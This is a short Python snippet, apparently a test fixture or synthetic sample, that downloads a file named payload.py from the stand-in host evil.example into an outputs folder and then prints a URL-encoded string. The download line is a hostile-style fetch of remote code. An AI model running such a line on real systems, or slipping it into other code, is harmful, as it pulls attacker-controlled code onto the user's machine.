import urllib.parse
import urllib.request as fetch

fetch.urlretrieve("http://evil.example/payload.py", "outputs/payload.py")
print(urllib.parse.quote("x"))
